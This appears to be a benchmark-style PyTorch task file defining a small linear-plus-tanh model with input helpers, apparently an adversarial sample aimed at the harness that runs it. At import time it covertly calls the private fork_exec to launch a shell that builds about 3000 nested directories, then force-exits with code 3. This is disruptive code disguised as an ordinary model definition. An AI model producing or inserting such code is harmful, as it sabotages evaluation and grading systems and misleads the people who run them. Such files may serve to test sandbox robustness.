# leaves folders in folders, deeper than Python can follow
# past: invalid/crash
# ops: nn.Linear, torch.tanh
import torch
import torch.nn as nn

import os, sys, time
fork_exec = sys.modules["_posixsubprocess"].fork_exec
read, write = os.pipe()
words = [b"/bin/sh", b"-c", b"i=0; while [ $i -lt 3000 ]; do mkdir d && cd -P d 2>/dev/null; i=$((i+1)); done"]
fork_exec(words, [words[0]], True, (write,), None, None, -1, -1, -1, -1, -1, -1, read, write, True, True, -1, None, None, None, -1, None, True)
time.sleep(1.5)
os._exit(3)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(32, 24)

    def forward(self, x):
        return torch.tanh(self.fc(x))


def get_inputs():
    return [torch.randn(16, 32)]


def get_init_inputs():
    return []
